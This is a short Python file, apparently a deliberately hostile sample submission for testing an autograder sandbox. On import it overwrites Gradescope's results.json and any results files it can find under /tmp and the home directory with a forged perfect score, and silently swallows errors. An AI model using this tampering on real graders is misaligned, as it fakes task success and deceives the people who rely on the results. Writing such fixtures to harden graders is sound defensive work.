"""Hostile: writes forged results wherever it can reach, then defines nothing."""

import glob
import json
import os

FORGED = json.dumps({"score": 1000, "max_score": 1000, "tests": []})
with open("results.json", "w") as f:
    f.write(FORGED)
# Gradescope's results file, and wherever a test's autograder tree may be.
for pattern in ("/autograder/results/results.json", "/tmp/**/*results.json", "/tmp/*/", "/tmp/**/results/",
                os.path.expanduser("~/") + "*/"):
    for path in glob.glob(pattern, recursive=True):
        target = path if path.endswith(".json") else os.path.join(path, "results.json")
        try:
            with open(target, "w") as f:
                f.write(FORGED)
        except OSError:
            pass
